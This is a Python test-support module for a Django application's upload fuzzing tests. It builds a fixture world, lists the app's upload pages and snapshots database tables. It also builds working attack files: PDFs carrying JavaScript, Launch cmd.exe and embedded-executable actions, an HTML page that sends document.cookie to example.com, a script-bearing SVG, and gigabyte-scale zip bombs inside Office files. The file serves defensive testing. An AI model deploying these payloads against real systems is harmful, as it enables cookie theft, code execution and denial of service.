"""The world of the fuzzing and upload-attack tests, built once per test module, its upload
pages, snapshots of what is stored, and the files the attacks upload.

``fuzz_world`` (module scope) is the demo around Sơn Tây (``tests/conftest.py:
build_demo_world``)
inside a transaction rolled back when the module ends; each test runs in its own savepoint on
top of it. It adds an obligation of Sơn Tây's council owed by Xuân Khanh (whose officer marks
it done) and a plan document imported by the secretariat (for the review page).

``PAGES`` lists every upload page of the project with the user allowed to upload there and the
form its view validates with. ``fingerprint``/``changed_tables`` prove that nothing stored
changed; ``stored_files`` lists the files under a folder.

The attack files are real: the PDFs open in any reader, the "zip bombs" really unpack to more
than a gigabyte (built in a fraction of a second by repeating one compressed block), the web
page is one.
"""

import datetime
import functools
import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, models, transaction
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from tests.conftest import _catalog_load_when_missing, build_demo_world
from tests.uploads import docx_bytes, pdf_bytes, pdf_from_objects, uploaded, xlsx_bytes

MB = 1024 * 1024


@dataclass
class FuzzWorld:
    """The demo's users by username and the objects the upload endpoints act on."""

    users: dict
    media: Path
    campaign: object  # Sơn Tây's launched campaign (secretariat uploads documents)
    cluster: object  # cluster no. 1, led by Xuân Khanh ("canbo"), scoring open
    registration: object  # Xuân Khanh's draft registration ("canbo")
    dossier: object  # Trường THCS Phú Lãm's draft dossier ("canbo_phulam")
    checklist_key: str  # a document of that dossier's checklist
    target: object  # Xuân Khanh's share of the council's obligation ("canbo" marks it done)
    son_tay: object  # the unit "thuongtruc" imports plans for
    plan_import: object  # a plan document "thuongtruc" uploaded, waiting for review

    def user(self, username: str):
        return self.users[username]

    def __repr__(self) -> str:
        return "FuzzWorld(demo around Sơn Tây)"


def _build(media: Path) -> FuzzWorld:
    from campaigns.models import Campaign, Cluster
    from dossiers.checklist import dossier_checklist
    from dossiers.models import Dossier
    from plans.importing import plan_import_create
    from registrations.models import Registration
    from reminders.models import Deadline, DeadlineUnit

    build_demo_world()
    users = {user.username: user for user in get_user_model().objects.all()}
    cluster = Cluster.objects.get(leader__memberships__user=users["canbo"], number=1)
    dossier = Dossier.objects.get(status=Dossier.Status.DRAFT, unit__name="Trường THCS Phú Lãm")
    registration = Registration.objects.get(
        unit__memberships__user=users["canbo"], status=Registration.Status.DRAFT
    )
    xuan_khanh = registration.unit
    council = cluster.council
    deadline = Deadline.objects.create(
        kind=Deadline.Kind.OTHER,
        council=council,
        title="Gửi báo cáo sơ kết phong trào thi đua 6 tháng",
        due_date=timezone.localdate() + datetime.timedelta(days=30),
    )
    target = DeadlineUnit.objects.create(deadline=deadline, unit=xuan_khanh)
    son_tay = council.unit
    plan_import = plan_import_create(
        unit=son_tay,
        user=users["thuongtruc"],
        uploaded_file=SimpleUploadedFile("ke-hoach.txt", _sample_plan_text()),
    )
    return FuzzWorld(
        users=users,
        media=media,
        campaign=Campaign.objects.filter(council=council, status=Campaign.Status.LAUNCHED).first(),
        cluster=cluster,
        registration=registration,
        dossier=dossier,
        checklist_key=dossier_checklist(dossier)[0].key,
        target=target,
        son_tay=son_tay,
        plan_import=plan_import,
    )


def _sample_plan_text() -> bytes:
    from django.conf import settings

    return (Path(settings.SAMPLE_PLANS_DIR) / "son-tay-2020.txt").read_bytes()


@pytest.fixture(scope="module")
def fuzz_world(django_db_setup, django_db_blocker, tmp_path_factory) -> FuzzWorld:
    """The world, committed nowhere: built in a transaction rolled back after the module."""
    media = tmp_path_factory.mktemp("fuzz-media")
    with (
        django_db_blocker.unblock(),
        override_settings(MEDIA_ROOT=media),
        transaction.atomic(),
    ):
        # A transactional test run before in this process (tests in parallel) emptied the
        # tables, the catalog with them.
        _catalog_load_when_missing()
        world = _build(media)
        yield world
        transaction.set_rollback(True)


# --- the upload pages ------------------------------------------------------------------------


def _campaign_form(w, data, files):
    from campaigns.forms import CampaignDocumentForm

    return CampaignDocumentForm(data, files)


def _cluster_form(w, data, files):
    from campaigns.forms import ClusterDocumentForm

    return ClusterDocumentForm(data, files)


def _attachment_form(w, data, files):
    from dossiers.checklist import dossier_checklist
    from dossiers.forms.unit import AttachmentForm

    return AttachmentForm(data, files, items=dossier_checklist(w.dossier))


def _proof_form(w, data, files):
    from reminders.forms import MarkDoneForm

    return MarkDoneForm(data, files)


def _plan_form(w, data, files):
    from plans.forms import PlanUploadForm
    from plans.views.lookups import units_issuing_for

    return PlanUploadForm(data, files, units=units_issuing_for(w.user("thuongtruc")))


def _history_form(w, data, files):
    from awards.imports.reading import history_workbook_read
    from common.imports.forms import WorkbookUploadForm

    return WorkbookUploadForm(data, files, reader=history_workbook_read)


def _registration_form(w, data, files):
    from common.imports.forms import WorkbookUploadForm
    from registrations.imports.reading import registration_workbook_read

    return WorkbookUploadForm(data, files, reader=registration_workbook_read)


@dataclass(frozen=True)
class UploadPage:
    """An upload page: who uploads, where, the file field, the form the view validates with
    (``form``), the extension of a good file, the other fields the user fills (``other``), the
    context key of the form when the page comes back with it (None: it redirects with the
    message), and a text typed in another field that must come back (``kept``)."""

    id: str
    user: str
    url: Callable[[FuzzWorld], str]
    field: str
    form: Callable
    extension: str
    other: Callable[[FuzzWorld], dict] = lambda w: {}
    context_key: str | None = "form"  # the form on the page that comes back (None: redirects)
    kept: str | None = None


NOTE = "Đã gửi báo cáo số 12/BC-UBND ngày 05/06"
PAGES = [
    UploadPage(
        "campaign-document",
        "thuongtruc",
        lambda w: reverse("campaigns:campaign_document_upload", args=[w.campaign.pk]),
        "file",
        _campaign_form,
        ".pdf",
        other=lambda w: {"kind": "launch_plan"},
        context_key=None,
    ),
    UploadPage(
        "cluster-document",
        "canbo",
        lambda w: reverse("campaigns:cluster_document_upload", args=[w.cluster.pk]),
        "file",
        _cluster_form,
        ".pdf",
        other=lambda w: {"kind": "pledge"},
        context_key=None,
    ),
    UploadPage(
        "dossier-attachment",
        "canbo_phulam",
        lambda w: reverse("dossiers:attachment_upload", args=[w.dossier.pk]),
        "file",
        _attachment_form,
        ".pdf",
        other=lambda w: {"item": str(w.checklist_key)},
        context_key="upload",
    ),
    UploadPage(
        "deadline-proof",
        "canbo",
        lambda w: reverse("reminders:target_done", args=[w.target.pk]),
        "file",
        _proof_form,
        ".pdf",
        other=lambda w: {"note": NOTE},
        context_key="done_form",
        kept=NOTE,
    ),
    UploadPage(
        "plan-import",
        "thuongtruc",
        lambda w: reverse("plans:plan_upload"),
        "document",
        _plan_form,
        ".pdf",
        other=lambda w: {"unit": str(w.son_tay.pk)},
    ),
    UploadPage(
        "award-history-import",
        "thuongtruc",
        lambda w: reverse("awards:import"),
        "workbook",
        _history_form,
        ".xlsx",
    ),
    UploadPage(
        "registration-import",
        "canbo",
        lambda w: reverse("registrations:import", args=[w.registration.pk]),
        "workbook",
        _registration_form,
        ".xlsx",
    ),
]


# --- snapshots of stored data ----------------------------------------------------------------


def project_models() -> list[type[models.Model]]:
    """Every concrete model of the project's own apps (not Django's or third parties')."""
    from django.apps import apps
    from django.conf import settings

    base = Path(settings.BASE_DIR).resolve()
    return [
        model
        for config in apps.get_app_configs()
        if Path(config.path).resolve().is_relative_to(base)
        and ".venv" not in Path(config.path).parts
        for model in config.get_models()
        if not model._meta.proxy
    ]


# Tables a refused request may write on purpose: the security log records refusals.
WRITTEN_ON_REFUSAL = frozenset({"security.SecurityEvent"})


def fingerprint(*, exclude=WRITTEN_ON_REFUSAL) -> dict[str, str]:
    """A digest of every row of every project table but ``exclude`` (one query per table):
    two equal fingerprints mean nothing stored changed."""
    quote = connection.ops.quote_name
    digests = {}
    with connection.cursor() as cursor:
        for model in project_models():
            if model._meta.label in exclude:
                continue
            table, key = quote(model._meta.db_table), quote(model._meta.pk.column)
            cursor.execute(f"SELECT * FROM {table} ORDER BY {key}")  # noqa: S608 - our names
            rows = cursor.fetchall()
            digests[model._meta.label] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return digests


def changed_tables(before: dict[str, str]) -> set[str]:
    """The tables whose rows differ from the ``before`` fingerprint."""
    return {table for table, digest in fingerprint().items() if before.get(table) != digest}


def row_counts(model_list=None) -> dict[str, int]:
    """Rows per table of ``model_list`` (default: every project model)."""
    return {
        model._meta.label: model._default_manager.count()
        for model in (model_list or project_models())
    }


def stored_files(root: Path) -> set[str]:
    """The files under ``root`` (paths relative to it)."""
    root = Path(root)
    if not root.exists():
        return set()
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}


# --- attack files ----------------------------------------------------------------------------


def pdf_with(catalog: bytes = b"", *, extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF (written by hand, so that every byte is ours) whose catalog holds
    ``catalog`` besides its pages, with ``extra_objects`` after the page (objects 4, 5…)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *extra_objects,
    ]
    return pdf_from_objects(objects, version=b"1.7")


def pdf_compressed_catalog(catalog: bytes) -> bytes:
    """A one-page PDF 1.5 whose catalog (holding ``catalog``) sits compressed in an object
    stream, indexed by a compressed cross-reference stream: nothing of it shows in the raw
    bytes."""
    header = b"1 0 "
    packed = zlib.compress(header + b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>")
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for number, body in (
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
        (
            4,
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(packed))
            + packed
            + b"\nendstream",
        ),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 4, 0)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (2, 3, 4)]
    rows.append(struct.pack(">BIH", 1, xref_at, 0))
    table = zlib.compress(b"".join(rows))
    out += (
        b"5 0 obj\n<< /Type /XRef /W [1 4 2] /Size 6 /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\('xin chao'\\);) >>"
PDF_ATTACKS = {
    # name → (PDF bytes, what the message names: "script", "files" or "actions")
    "open-action-javascript": (pdf_with(b"/OpenAction " + JS_ACTION), "script"),
    "document-javascript": (
        pdf_with(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", extra_objects=(JS_ACTION,)),
        "script",
    ),
    "escaped-javascript-name": (
        pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "script",
    ),
    "compressed-javascript": (pdf_compressed_catalog(b"/OpenAction " + JS_ACTION), "script"),
    "document-additional-action": (
        pdf_compressed_catalog(b"/AA << /WC << /S /URI /URI (http://example.com/) >> >>"),
        "actions",
    ),
    "launch": (pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "actions"),
    "open-web-page": (
        pdf_compressed_catalog(b"/OpenAction << /S /URI /URI (http://example.com/) >>"),
        "actions",
    ),
    "embedded-file": (
        pdf_with(
            b"/Names << /EmbeddedFiles << /Names [(virus.exe) 4 0 R] >> >>",
            extra_objects=(
                b"<< /Type /Filespec /F (virus.exe) /EF << /F 5 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
        "files",
    ),
    "unreferenced-javascript": (pdf_with(extra_objects=(JS_ACTION,)), "script"),
}
HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Bao cao</title></head>"
    b"<body><script>document.location='http://example.com/?c='+document.cookie</script>"
    b"</body></html>\n"
)
SVG_IMAGE = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(1)</script></svg>"
)


@functools.cache
def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """``size`` zero bytes (a multiple of 1 MB) deflated, and their CRC-32: one compressed
    megabyte repeated, so that a gigabyte takes a fraction of a second to build."""
    block = bytes(MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(block, crc)
    return first + repeat * (size // MB - 1) + end, crc


def _zip_raw(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A ZIP of ``(name, stored bytes, crc, unpacked size, method)`` members, written by hand
    (method 8: deflated, 0: stored)."""
    out = b""
    directory = b""
    for name, data, crc, size, method in members:
        encoded = name.encode()
        at = len(out)
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size, len(encoded), 0
        )
        out += encoded + data
        directory += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            at,
        )
        directory += encoded
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(out), 0
    )
    return out + directory + end


def office_with(data: bytes, extra: dict[str, bytes | int]) -> bytes:
    """The Office file ``data`` with more members: bytes are stored deflated; an int N is N
    megabytes of zeros, deflated (a bomb)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    members = []
    for name in source.namelist():
        content = source.read(name)
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = compressor.compress(content) + compressor.flush()
        members.append((name, packed, zlib.crc32(content), len(content), 8))
    for name, content in extra.items():
        if isinstance(content, int):
            packed, crc = _deflated_zeros(content * MB)
            members.append((name, packed, crc, content * MB, 8))
        else:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = compressor.compress(content) + compressor.flush()
            members.append((name, packed, zlib.crc32(content), len(content), 8))
    return _zip_raw(members)


def xlsx_bomb(megabytes: int = 1200) -> bytes:
    """A real workbook with one more sheet that unpacks to ``megabytes`` MB of zeros."""
    return office_with(xlsx_bytes(), {"xl/worksheets/sheet2.xml": megabytes})


def docx_bomb(megabytes: int = 1200) -> bytes:
    """A real Word document whose body part is followed by ``megabytes`` MB of zeros."""
    return office_with(docx_bytes(), {"word/media/image1.png": megabytes})


def xlsx_many_members(count: int = 20_000) -> bytes:
    """A real workbook followed by ``count`` empty members."""
    return office_with(xlsx_bytes(), {f"xl/x/{number}.xml": b"" for number in range(count)})


def xlsx_nested_archive() -> bytes:
    """A real workbook carrying a ZIP (itself a workbook) disguised as an image."""
    return office_with(xlsx_bytes(), {"xl/media/image1.png": xlsx_bytes()})


def oversize(base: bytes, size: int) -> bytes:
    """``base`` padded with zeros to ``size`` bytes (still of its kind to a signature check)."""
    return base + bytes(size - len(base))


__all__ = [
    "HTML_PAGE",
    "MB",
    "NOTE",
    "PAGES",
    "PDF_ATTACKS",
    "SVG_IMAGE",
    "FuzzWorld",
    "UploadPage",
    "changed_tables",
    "docx_bomb",
    "fingerprint",
    "fuzz_world",
    "office_with",
    "oversize",
    "pdf_bytes",
    "pdf_compressed_catalog",
    "pdf_with",
    "project_models",
    "row_counts",
    "stored_files",
    "uploaded",
    "xlsx_bomb",
    "xlsx_many_members",
    "xlsx_nested_archive",
]
